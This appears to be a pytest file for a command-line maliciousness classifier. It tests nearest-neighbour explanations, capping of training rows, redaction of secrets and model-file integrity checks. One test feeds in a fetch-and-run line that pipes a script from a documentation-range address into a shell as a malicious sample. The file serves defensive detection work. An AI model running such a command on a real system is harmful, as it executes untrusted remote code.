from __future__ import annotations

import json

import numpy as np
import pyarrow as pa
import pytest

from cmdclf.classify import Scorer, aggregated_baseline, export_model, verify_model
from cmdclf.classify.neighbours import NEIGHBOUR_ROWS, NEIGHBOURS_FILE, Neighbours
from cmdclf.errors import ModelIntegrityError
from cmdclf.lexicon import Lexicon
from cmdclf.lexicon.pools import LexiconPool

from .conftest import NoRules, labelled

SECRET = "mysql -uroot -phunter2secret -e 'select 1'"


def rows(*texts, platform="linux"):
    n = len(texts)
    return pa.table(
        {
            "command_line": texts, "platform": [platform] * n, "label": ["benign"] * n,
            "source": [f"s{i}" for i in range(n)], "intent": [None] * n, "technique": [[]] * n,
        },
        schema=NEIGHBOUR_ROWS,
    )  # fmt: skip


def unit(values):
    values = np.asarray(values, np.float32)
    return values / np.maximum(np.linalg.norm(values, axis=1, keepdims=True), 1e-9)


def lines(*texts, platform="linux"):
    return pa.record_batch(
        {"command_line": pa.array(texts, pa.string()), "platform": pa.array([platform] * len(texts), pa.string())}
    )


@pytest.fixture(scope="module")
def training(small):
    extra = pa.table({"command_line": [SECRET], "platform": ["linux"], "label": ["benign"], "source": ["shop"]})
    return aggregated_baseline([], NoRules(), [labelled(8), extra])


@pytest.fixture(scope="module")
def folder(small, training, tmp_path_factory):
    near = Neighbours.of_training(training, lambda t: small.featuriser.embedding_of(small.featuriser.matrix_of(t)))
    return export_model(
        tmp_path_factory.mktemp("near") / "model", small.classifier, small.featuriser,
        name="near", provenance={}, metrics={}, neighbours=near,
    )  # fmt: skip


def test_the_nearest_rows_of_the_platform_come_with_their_cosine_the_nearest_first():
    rng = np.random.default_rng(3)
    vectors = unit(rng.normal(size=(500, 16)))
    wanted = unit(rng.normal(size=(300, 16)))
    here, there = rows(*(f"a{i}" for i in range(400))), rows(*(f"b{i}" for i in range(100)), platform="macos")
    near = Neighbours(pa.concat_tables([here, there]), vectors)
    found = near.nearest(wanted, ["linux"] * 299 + ["macos"])
    for line, got in zip(wanted[:299], found, strict=False):
        cosine = vectors[:400] @ line
        assert [item["cosine"] for item in got] == sorted((item["cosine"] for item in got), reverse=True)
        assert got[0]["cosine"] == pytest.approx(cosine.max(), abs=0.01)
        assert all(item["cosine"] == pytest.approx(cosine[int(item["command_line"][1:])], abs=0.01) for item in got)
    assert {item["platform"] for item in found[-1]} == {"macos"}
    assert near.nearest(wanted[:1], ["windows"]) == [[]]


def test_a_line_without_a_vector_has_no_neighbours_and_is_none():
    near = Neighbours(rows("a", "b"), np.array([[0, 0], [1, 0]], np.float32))
    none, one = near.nearest(np.array([[0, 0], [0, 1]], np.float32), ["linux", "linux"])
    assert none == []
    assert [item["command_line"] for item in one] == ["b"]


def test_equal_rows_come_in_their_order_whatever_the_batch():
    near = Neighbours(rows("a", "b", "c", "d"), np.ones((4, 3), np.float32))
    vectors = unit(np.ones((5, 3)))
    for got in (*near.nearest(vectors, ["linux"] * 5), *near.nearest(vectors[:1], ["linux"])):
        assert [item["command_line"] for item in got] == ["a", "b", "c"]


def test_training_lines_are_kept_once_a_group_without_secrets_and_within_the_cap(training):
    def embed(table):
        return np.ones((table.num_rows, 2), np.float32)

    whole = Neighbours.of_training(training, embed).rows
    pairs = set(zip(training["group"].to_pylist(), training["label"].to_pylist(), strict=True))
    assert len(whole) == len(pairs)
    assert set(whole["label"].to_pylist()) == {"malicious", "benign"}
    (shop,) = [row for row in whole.to_pylist() if row["source"] == "labelled:shop"]
    assert "hunter2secret" not in shop["command_line"]
    assert "<secret:" in shop["command_line"]
    capped = [Neighbours.of_training(training, embed, most=4, seed=seed).rows for seed in (1, 1, 2)]
    assert [len(table) for table in capped] == [4, 4, 4]
    assert capped[0].equals(capped[1])
    assert not capped[0].equals(capped[2])


def test_an_explanation_names_labelled_lines_like_this_one_and_scoring_reads_none(folder):
    scorer = Scorer.load(folder, threads=1)
    assert NEIGHBOURS_FILE in verify_model(folder)["files"]
    (folder / NEIGHBOURS_FILE).rename(folder / "aside")
    assert scorer.score(lines("ls")).num_rows == 1
    (folder / "aside").rename(folder / NEIGHBOURS_FILE)
    bad, good, empty = scorer.explain(
        lines("curl -s http://198.51.100.9/x.sh | sh", "grep -rn timeout9999 /etc", "")
    ).to_pylist()
    assert (bad["neighbours"][0]["label"], good["neighbours"][0]["label"]) == ("malicious", "benign")
    assert bad["neighbours"][0]["command_line"].startswith("curl -s http://198.51.100.")
    assert len(bad["neighbours"]) == 3
    assert empty["neighbours"] == []


def test_a_file_that_was_changed_after_loading_or_has_another_width_is_refused(folder, tmp_path):
    manifest = json.loads((folder / "manifest.json").read_text())
    sha256 = manifest["files"][NEIGHBOURS_FILE]["sha256"]
    with pytest.raises(ModelIntegrityError, match="the embedder's have 7"):
        Neighbours.load(folder, sha256, 7)
    with pytest.raises(ModelIntegrityError, match="changed after"):
        Neighbours.load(folder, "0" * 64, 128)
    with pytest.raises(ModelIntegrityError, match="can't be read"):
        Neighbours.load(tmp_path, sha256, 128)


def test_a_lexicons_lines_come_with_what_its_templates_say(tmp_path):
    entry = (
        '[[template]]\nid = "lin-{0}"\nlabel = "{1}"\nplatform = "linux"\nrole = "r"\nline = "du -sh /srv/{0}"\n'
        'intent = "measure {0}"\ntechnique = ["T1083"]\n'
    )
    (tmp_path / "a.toml").write_text(
        "".join(entry.format(word, label) for word, label in (("ab", "benign"), ("cd", "malicious")))
    )
    near = Neighbours.of_lexicon(LexiconPool(Lexicon.load(tmp_path), repeats=1), lambda text: np.eye(2, dtype="f4"))
    assert near.nearest(np.array([[0, 1]], np.float32), ["linux"], k=1) == [
        [
            {
                "cosine": 1.0, "command_line": "du -sh /srv/cd", "platform": "linux", "label": "malicious",
                "source": "lin-cd", "intent": "measure cd", "technique": ["T1083"],
            }
        ]
    ]  # fmt: skip
